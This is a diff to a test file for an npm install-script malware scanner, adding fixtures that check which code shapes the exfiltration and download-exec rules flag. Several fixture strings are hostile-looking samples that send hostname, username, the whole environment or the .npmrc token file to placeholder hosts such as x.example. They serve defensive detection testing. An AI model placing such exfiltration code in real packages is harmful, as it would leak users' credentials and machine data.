@@ -47,7 +47,7 @@ describe('GuardDog corpus: malicious shapes are found', () => {
 describe("popular packages' real install scripts read clean", () => {
   const benign = files('benign/');
   test('every recorded install script (downloaders, native builds, banners)', () => {
-    expect(benign.length).toBeGreaterThanOrEqual(14);
+    expect(benign.length).toBeGreaterThanOrEqual(15);
     for (const file of benign) expect([file, flags(read(file))]).toEqual([file, []]);
   });
 });
@@ -66,6 +66,12 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['curl through child_process with the shell asking who and where', "require('child_process').exec('curl -s https://x.example/p?d=$(whoami)@$(hostname)')", ['download-exec', 'exfiltration']],
     ['host data without a network call', "const os = require('os'); console.log(os.hostname())", []],
     ['a network call without host data (a binary download)', "require('https').get('https://github.com/o/r/releases/download/v1/x.tgz', save)", []],
+    ['the user named in a log file in the temporary folder, the platform sent (install analytics)', "const os = require('os'); const https = require('https');\nconst user = os.userInfo().username;\nconst log = path.join(os.tmpdir(), `history-${user}.log`);\nhttps.request({ host: 'stats.example' }).end(JSON.stringify({ platform: os.platform() }));", []],
+    ['the same read inside the path call', "const os = require('os'); fetch('https://stats.example/', { body: os.platform() }); fs.appendFileSync(path.join(os.homedir(), os.hostname() + '.log'), 'x');", []],
+    ['the user named in a log file and sent too', "const os = require('os'); const https = require('https');\nconst user = os.userInfo().username;\nconst log = path.join(os.tmpdir(), `history-${user}.log`);\nhttps.request({ host: 'stats.example' }).end(user);", ['exfiltration']],
+    ['minified: host data beside a temporary path in one statement, then sent', "var o=require('os'),h=o.hostname(),f=require('path').join(o.tmpdir(),'x');require('https').request({host:'a.example'}).end(h)", ['exfiltration']],
+    ['a path call that names no temporary or home folder', "const os = require('os'); fetch('https://x.example/' + path.join('a', os.hostname()))", ['exfiltration']],
+    ['a name used only in paths, but read more than once unassigned', "const os = require('os'); const u = os.userInfo().username; fs.writeFileSync(path.join(os.tmpdir(), u), ''); fetch('https://x.example/', { body: os.hostname() })", ['exfiltration']],
     ['the whole environment sent', "fetch('https://x.example/', { method: 'POST', body: JSON.stringify(process.env) })", ['exfiltration']],
     ['one variable read for a proxy', "const p = process.env.HTTPS_PROXY; require('https').get(url, { agent: p })", []],
     ['the npm token file read and sent', "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch(u, { method: 'POST', body: t })", ['exfiltration']],
